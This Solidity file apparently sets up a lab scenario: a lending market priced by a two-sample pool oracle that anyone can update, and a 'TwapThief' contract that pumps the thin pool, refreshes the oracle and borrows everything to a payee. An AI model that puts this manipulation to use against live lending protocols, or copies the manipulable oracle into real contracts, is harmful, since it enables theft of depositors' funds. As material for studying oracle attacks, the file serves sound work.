// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// An average over the last two looks at a pool, taken by whoever wants to, a block apart or more.
contract QuickTwap {
    Pool public immutable pool;
    Token public immutable token;
    uint256[2] public seen; // coins for a whole token, the older one first
    uint256 public lastSeen;

    event Worked(address indexed keeper, uint256 spot);

    constructor(Pool pool_, Token token_) {
        (pool, token) = (pool_, token_);
    }

    function work() external {
        require(block.timestamp > lastSeen, "not yet");
        seen = [seen[1], pool.spot(token)];
        lastSeen = block.timestamp;
        emit Worked(msg.sender, seen[1]);
    }

    function quote() external view returns (uint256) {
        return (seen[0] + seen[1]) / 2;
    }
}

/// Lends a synthetic dollar of 18 places against a governance token.
contract AnchorMarket {
    QuickTwap public immutable oracle;
    Token public immutable token;
    Token public immutable dola;
    uint256 public constant DOLLARS_A_COIN = 2500;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;
    address[] private borrowers;

    event CollateralAdded(address indexed account, uint256 amount);
    event Borrowed(address indexed account, uint256 amount, uint256 debt);
    event Repaid(address indexed account, uint256 amount, uint256 debt);

    constructor(QuickTwap oracle_, Token dola_) {
        (oracle, token, dola) = (oracle_, oracle_.token(), dola_);
    }

    function deposit(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        emit CollateralAdded(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        if (debt[msg.sender] == 0) borrowers.push(msg.sender);
        debt[msg.sender] += amount;
        require(debt[msg.sender] <= worth(collateral[msg.sender], oracle.quote()) * 60 / 100, "insufficient collateral");
        dola.transfer(msg.sender, amount);
        emit Borrowed(msg.sender, amount, debt[msg.sender]);
    }

    function repay(uint256 amount) external {
        dola.transferFrom(msg.sender, address(this), amount);
        debt[msg.sender] -= amount;
        emit Repaid(msg.sender, amount, debt[msg.sender]);
    }

    function worth(uint256 amount, uint256 price) public pure returns (uint256) {
        return amount * price / 1e18 * DOLLARS_A_COIN;
    }

    /// What would be missing if the token fell to a price, in coins for a whole one.
    function missingAt(uint256 price) external view returns (uint256 sum) {
        for (uint256 i = 0; i < borrowers.length; i++) {
            uint256 has = worth(collateral[borrowers[i]], price);
            if (debt[borrowers[i]] > has) sum += debt[borrowers[i]] - has;
        }
    }
}

/// Buys a thin market up, waits until the oracle believes it, and borrows all there is.
contract TwapThief {
    Pool private pool;
    QuickTwap private oracle;
    AnchorMarket private market;

    function pump(AnchorMarket market_) external payable {
        (market, oracle) = (market_, market_.oracle());
        pool = oracle.pool();
        Shop.buy(pool, msg.value);
        oracle.work();
    }

    function loot(AnchorMarket market_, uint256 amount, address payee) external {
        if (block.timestamp > oracle.lastSeen()) oracle.work();
        Token token = oracle.token();
        uint256 mine = token.balanceOf(address(this));
        if (mine > 0) {
            token.approve(address(market_), mine);
            market_.deposit(mine);
        }
        market_.borrow(amount);
        market_.dola().transfer(payee, amount);
    }
}
